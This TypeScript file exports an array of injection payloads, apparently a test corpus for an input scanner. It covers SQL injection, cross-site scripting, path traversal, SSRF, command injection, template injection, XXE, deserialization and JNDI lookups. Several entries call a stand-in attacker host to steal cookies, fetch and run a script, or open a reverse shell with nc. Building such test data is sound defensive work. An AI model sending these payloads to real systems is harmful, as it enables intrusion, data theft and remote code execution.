/**
 * Attacks of all categories that one value can hold, none shorter than what base64 is looked for
 * in.
 */
export const attacks: readonly string[] = [
  // SQL injection
  "' or '1'='1' -- ",
  "1' union select username, password from users -- -",
  '1; drop table accounts; --',
  "admin'/**/and/**/sleep(5)#",
  "x' and extractvalue(1, concat(0x7e, (select version()))) and '1'='1",
  '1) and (select count(*) from information_schema.tables) > 0 -- ',
  "'; exec xp_cmdshell('whoami') --",
  "1' waitfor delay '0:0:9' --",
  '-1 union all select null, null, load_file(char(47,101,116,99)) -- ',
  "x' || (select pg_sleep(4)) || '",
  // Cross-site scripting
  '<script>fetch("//evil.example/?"+document.cookie)</script>',
  '<img src=x onerror=alert(document.domain)>',
  '"><svg/onload=confirm(1)>',
  '<a href="javascript:alert(1)">win</a>',
  "' onmouseover='alert(1)' x='",
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<details open ontoggle=prompt(1)>',
  '</textarea><script>alert(String.fromCharCode(88))</script>',
  // Path traversal and inclusion
  '../../../../etc/passwd',
  '..\\..\\..\\windows\\win.ini',
  '/var/www/../../etc/shadow',
  'php://filter/convert.base64-encode/resource=config.php',
  'http://evil.example/shell.txt?cmd=id',
  'file:///etc/passwd',
  // Server-side request forgery
  'http://169.254.169.254/latest/meta-data/iam/',
  'gopher://127.0.0.1:6379/_FLUSHALL',
  'http://2130706433/admin',
  // Commands
  '127.0.0.1; cat /etc/passwd',
  '$(curl http://evil.example/x.sh | sh)',
  '| nc -e /bin/sh 10.0.0.1 4444',
  '`wget http://evil.example/a -O /tmp/a`',
  '& powershell -enc SQBFAFgA',
  'a;cat${IFS}/etc/passwd',
  '() { :; }; /bin/bash -c "id"',
  // Code
  '<?php system($_GET["c"]); ?>',
  '";phpinfo();//',
  "__import__('os').system('id')",
  "require('child_process').exec('id')",
  // Templates
  '{{7*7}}{{config.items()}}',
  "{{''.__class__.__mro__[1].__subclasses__()}}",
  '${T(java.lang.Runtime).getRuntime().exec("id")}',
  '<#assign x="freemarker.template.utility.Execute"?new()>${x("id")}',
  '<%= `id` %><%= system("id") %>',
  '#{7*7}${{7*7}}',
  // XML
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]>',
  '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>',
  // Directories and XPath
  '*)(uid=*))(|(uid=*',
  'admin)(&(objectClass=*)(userPassword=*',
  "' or count(/*)=1 or 'a'='b",
  "x'] | //user[name='admin",
  // Documents and objects
  '{"username":{"$ne":null},"password":{"$gt":""}}',
  "'; return this.password.match(/^a/); var x='",
  '{"__proto__":{"isAdmin":true}}',
  'constructor[prototype][admin]=1&__proto__[x]=1',
  'O:8:"stdClass":1:{s:4:"exec";s:2:"id";}',
  '{"rce":"_$$ND_FUNC$$_function(){require(\'child_process\').exec(\'id\')}()"}',
  'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhw',
  '!!python/object/apply:os.system ["id"]',
  // Headers, mail, includes, lookups
  'en\r\nSet-Cookie: session=attacker',
  'x%0d%0aLocation: http://evil.example/',
  'a@example.org\r\nBcc: victims@example.org',
  '<!--#exec cmd="ls -la" -->',
  '${jndi:ldap://evil.example/a}',
  '${${lower:j}ndi:${lower:rmi}://evil.example/a}',
  // Queries
  'query { __schema { types { name fields { name args { name } } } } }',
];
